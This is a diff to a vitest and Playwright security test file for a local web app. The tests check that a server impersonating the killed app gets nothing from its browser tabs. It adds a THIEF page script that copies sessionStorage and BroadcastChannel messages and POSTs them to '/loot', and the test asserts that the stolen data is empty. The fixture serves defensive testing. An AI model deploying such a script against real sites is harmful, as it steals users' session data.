@@ -5,15 +5,18 @@
  */
 import { createHmac } from 'node:crypto';
 import { once } from 'node:events';
+import { writeFileSync } from 'node:fs';
 import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
+import { join } from 'node:path';
 import { text as bodyOf } from 'node:stream/consumers';
 import type { Browser, BrowserContextOptions, Page } from 'playwright-core';
 import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
 import { text } from '../../src/web/page/text.ts';
+import { rowonce } from '../cli/rowonce.ts';
 import { openTab } from './browser.ts';
 import { openCable } from './cable.ts';
 import { openBrowser } from './chromium.ts';
-import { Served } from './served.ts';
+import { environmentIn, Served } from './served.ts';
 
 const KEY = 'a-key-that-nobody-sees';
 const NONCE = 'n'.repeat(43);
@@ -41,11 +44,15 @@ function strangerIn(sent: Sent[]) {
   };
 }
 
-/** Takes the place of a server that has ended. */
-async function strangerAt(port: number): Promise<readonly Sent[]> {
+/** Takes the place of a server that has ended. @param page what it shows there; left out: nothing. */
+async function strangerAt(port: number, page?: string): Promise<readonly Sent[]> {
   const sent: Sent[] = [];
+  const answer = strangerIn(sent);
   for (const host of ['127.0.0.1', '::1']) {
-    const stranger = createServer(strangerIn(sent)).listen(port, host);
+    const stranger = createServer((asked, answered) => {
+      if (page === undefined || asked.url !== '/') return void answer(asked, answered);
+      answered.setHeader('content-type', 'text/html').end(page);
+    }).listen(port, host);
     // Where there is no IPv6, nobody is there either.
     await once(stranger, 'listening').catch((error) =>
       expect(error.code).toMatch(/EADDRNOTAVAIL|EAFNOSUPPORT/),
@@ -110,6 +117,55 @@ test('the forms are open again when the server has proved itself, with what was 
   await page.locator('button[type=submit]').click();
   await page.getByText('https://api.example.com').first().waitFor();
 });
+
+test.each([
+  ['about whom it is asked', '/history', text.history.search.go],
+  ['by what lists are found', '/', undefined],
+])('%s is sent to nobody else either, also while the stream is there', async (_, path, button) => {
+  await using served = await Served.start();
+  const cwd = served.folder;
+  writeFileSync(join(cwd, 'list.csv'), 'Domain\na.example\n');
+  const play = ['run', 'enrich-company', 'list.csv', '--account', 'sandbox-provider'];
+  expect(await rowonce(play, { cwd, env: environmentIn(cwd) })).toMatchObject({ code: 0 });
+  const cable = await openCable();
+  const page = await openTab(browser, served, { path, proxy: cable.proxy });
+  onTestFinished(() => page.context().close());
+  const field = page.getByRole('searchbox').first();
+  // A field is closed until the stream is there.
+  await expect.poll(() => field.isEnabled()).toBe(true);
+  const sent: Sent[] = [];
+  cable.instead = strangerIn(sent);
+  await field.fill('jane@example.com');
+  if (button !== undefined) await page.getByRole('button', { name: button }).click();
+  await page.getByText('rowonce serve').waitFor();
+  expect(sent.map(({ line }) => line)).toEqual(['POST /api/proof']);
+});
+
+test('a tab that is loaded anew from who took the place of the server has nothing by which that could prove to be the server', async () => {
+  const served = await Served.start();
+  const page = await typedAccount(served);
+  const other = await page.context().newPage();
+  await other.goto(served.url);
+  await other.getByRole('link', { name: text.nav.history }).waitFor();
+  await served.stop('SIGKILL');
+  await page.getByText(text.reconnecting).waitFor();
+  await other.getByText(text.reconnecting).waitFor();
+  const sent = await strangerAt(served.port, THIEF);
+  await other.goto(served.url);
+  await expect.poll(() => sent.find(({ line }) => line === 'POST /loot')?.body).toBeDefined();
+  expect(sent.find(({ line }) => line === 'POST /loot')?.body).toBe('{"kept":{},"told":[]}');
+  await served[Symbol.asyncDispose]();
+});
+
+/** Takes what a tab of this address keeps, and what its other tabs tell to whom they take for one of them. */
+const THIEF = `<!doctype html><script>
+  const told = [];
+  const channel = new BroadcastChannel('rowonce-tabs');
+  channel.onmessage = ({ data }) => told.push(data);
+  channel.postMessage({ ask: true });
+  const loot = () => JSON.stringify({ kept: { ...sessionStorage }, told });
+  setTimeout(() => fetch('/loot', { method: 'POST', body: loot() }), 500);
+</script>`;
 
 test('the proof is an HMAC of what was asked, under a key that came with the token alone', async () => {
   await using served = await Served.start();
